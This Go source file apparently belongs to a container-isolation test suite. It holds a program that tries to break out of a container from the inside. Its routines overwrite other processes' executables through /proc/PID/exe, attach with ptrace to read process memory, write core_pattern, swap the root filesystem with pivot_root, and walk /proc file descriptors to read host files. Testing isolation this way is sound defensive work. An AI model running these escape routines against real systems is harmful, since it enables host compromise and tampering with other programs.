package isolation

import (
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// attack is this program inside a container.
func attack(words []string) int {
	switch words[0] {
	case "steal-exe": // opens /proc/PID/exe of every other process, and tries to write to it until /stop is there
		stealExe()
	case "descriptors": // what this process was started with
		dir, err := os.ReadDir("/proc/self/fd")
		if err != nil {
			fmt.Println(err)
			return 1
		}
		for _, e := range dir {
			target, err := os.Readlink("/proc/self/fd/" + e.Name())
			// The runtime of Go has an epoll descriptor, ReadDir its own.
			if err != nil || strings.HasPrefix(target, "anon_inode:") || strings.HasSuffix(target, "/fd") {
				continue
			}
			fmt.Println(e.Name(), target)
		}
	case "ptrace": // PID: attach, read its memory, look at its descriptors
		pid, _ := strconv.Atoi(words[1])
		fmt.Println("attach", errText(syscall.PtraceAttach(pid)))
		_, _, errno := unix.Syscall6(unix.SYS_PTRACE, 0x4206 /* PTRACE_SEIZE */, uintptr(pid), 0, 0, 0, 0)
		fmt.Println("seize", errText(errnoErr(errno)))
		for _, f := range []string{"mem", "environ", "exe", "root", "cwd", "fd/0", "maps"} {
			file, err := os.Open(fmt.Sprintf("/proc/%d/%s", pid, f))
			if err == nil {
				var b [1]byte
				_, err = file.Read(b[:])
				file.Close()
				if err != nil && err.Error() == "EOF" {
					err = nil
				}
			}
			fmt.Println(f, errText(err))
		}
	case "signals": // sends SIGKILL to everything it can name
		signal.Ignore(syscall.SIGHUP)
		for _, w := range words[1:] {
			pid, _ := strconv.Atoi(w)
			fmt.Println(w, errText(syscall.Kill(pid, syscall.SIGKILL)))
		}
		fmt.Println("parent", syscall.Getppid())
	case "ids": // what a mapped root must not be able to do
		ids()
	case "call": // NUMBER ARG…
		var a [7]uintptr
		for i, w := range words[1:] {
			n, err := strconv.ParseUint(w, 0, 64)
			if err != nil {
				return 2
			}
			a[i] = uintptr(n)
		}
		_, _, errno := unix.RawSyscall6(a[0], a[1], a[2], a[3], a[4], a[5], a[6])
		fmt.Println(errText(errnoErr(errno)))
	case "environment": // how much of it there is
		n, longest := 0, 0
		for _, e := range os.Environ() {
			n += len(e) + 1
			longest = max(longest, len(e))
		}
		fmt.Println(n, longest)
	case "leave-root": // a root of its own for this process's mount namespace, then wait
		if err := leaveRoot(); err != nil {
			fmt.Println(err)
			return 1
		}
		time.Sleep(1000 * time.Second)
	case "outside": // looks for a file of the host through every way out that it knows
		outside(words[1])
	default:
		return 2
	}
	return 0
}

func errnoErr(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

func errText(err error) string {
	if err == nil {
		return "done"
	}
	if e, ok := err.(*os.PathError); ok {
		err = e.Err
	}
	if e, ok := err.(syscall.Errno); ok {
		return unix.ErrnoName(e)
	}
	return err.Error()
}

func stealExe() {
	self := os.Getpid()
	seen := map[string]bool{}
	opened, written := 0, 0
	fmt.Println("ready")
	os.WriteFile("/ready", nil, 0o644)
	var fds []int
	for {
		if _, err := os.Stat("/stop"); err == nil {
			break
		}
		procs, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, p := range procs {
			if p == fmt.Sprintf("/proc/%d/exe", self) {
				continue
			}
			target, err := os.Readlink(p)
			if err != nil || strings.HasPrefix(target, "/bin/") {
				continue
			}
			if !seen[p] {
				fd, err := unix.Open(p, unix.O_PATH, 0)
				if err != nil {
					continue
				}
				// By now it may be a program of this container, which is no loot.
				if target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); strings.HasPrefix(target, "/bin/") {
					unix.Close(fd)
					continue
				}
				seen[p] = true
				opened++
				fds = append(fds, fd)
			}
		}
		for _, fd := range fds {
			for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR | unix.O_TRUNC, unix.O_WRONLY | unix.O_APPEND} {
				w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), flags, 0)
				if err == nil {
					unix.Write(w, []byte("#!/bin/sh\necho owned\n"))
					unix.Close(w)
					written++
				}
			}
		}
	}
	fmt.Println("opened", opened, "written", written)
}

func ids() {
	try := func(what string, err error) { fmt.Println(what, errText(err)) }
	os.WriteFile("/tmp/own", nil, 0o600)
	try("chown-unmapped", syscall.Chown("/tmp/own", 70000, 70000))
	try("setuid-unmapped", errnoErr(rawErr(unix.SYS_SETUID, 70000)))
	try("setgid-unmapped", errnoErr(rawErr(unix.SYS_SETGID, 70000)))
	try("uid-map", write("/proc/self/uid_map", "0 0 1"))
	try("gid-map", write("/proc/self/gid_map", "0 0 1"))
	try("mknod", syscall.Mknod("/tmp/kmsg", syscall.S_IFCHR|0o666, 1<<8|11))
	try("host-file-read", func() error { _, err := os.ReadFile("/host/secret"); return err }())
	try("host-file-chown", syscall.Chown("/host/secret", 0, 0))
	try("host-file-write", write("/host/secret", "x"))
	try("core-pattern", write("/proc/sys/kernel/core_pattern", "|/x"))
	try("swappiness", write("/proc/sys/vm/swappiness", "1"))
}

func rawErr(nr, a uintptr) syscall.Errno {
	_, _, e := unix.RawSyscall(nr, a, 0, 0)
	return e
}

func write(file, text string) error {
	f, err := os.OpenFile(file, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.WriteString(text)
	return err
}

// leaveRoot makes a tmpfs the root of the mount namespace: what an exec finds is the attacker's.
func leaveRoot() error {
	if err := unix.Mount("tmpfs", "/mnt", "tmpfs", 0, ""); err != nil {
		return err
	}
	for _, d := range []string{"/mnt/old", "/mnt/bin", "/mnt/etc", "/mnt/proc", "/mnt/dev"} {
		if err := os.Mkdir(d, 0o755); err != nil {
			return err
		}
	}
	for _, f := range []string{"busybox", attackerName} {
		b, err := os.ReadFile("/bin/" + f)
		if err == nil {
			err = os.WriteFile("/mnt/bin/"+f, b, 0o755)
		}
		if err != nil {
			return err
		}
	}
	// A passwd that never answers, a /proc that is not one.
	if err := unix.Mkfifo("/mnt/etc/passwd", 0o644); err != nil {
		return err
	}
	if err := os.Symlink("/etc/passwd", "/mnt/proc/self"); err != nil {
		return err
	}
	if err := unix.PivotRoot("/mnt", "/mnt/old"); err != nil {
		return err
	}
	if err := unix.Chdir("/"); err != nil {
		return err
	}
	if err := unix.Unmount("/old", unix.MNT_DETACH); err != nil {
		return err
	}
	return os.WriteFile("/swapped", nil, 0o644)
}

// outside prints FOUND where one of the ways shows the host's file.
func outside(secret string) {
	var ways []string
	up := strings.Repeat("../", 40)
	ways = append(ways, up+secret, secret, "/proc/self/cwd/"+up+secret, "/proc/1/cwd/"+up+secret, "/proc/1/root/"+secret, "/proc/self/root/"+up+secret)
	for i := range 64 {
		ways = append(ways, fmt.Sprintf("/proc/self/fd/%d/%s%s", i, up, secret), fmt.Sprintf("/proc/1/fd/%d/%s%s", i, up, secret))
	}
	for _, w := range ways {
		if b, err := os.ReadFile(w); err == nil {
			fmt.Println("FOUND", w, string(b))
		}
	}
	cwd, err := os.Getwd()
	fmt.Println("cwd", cwd, err)
}
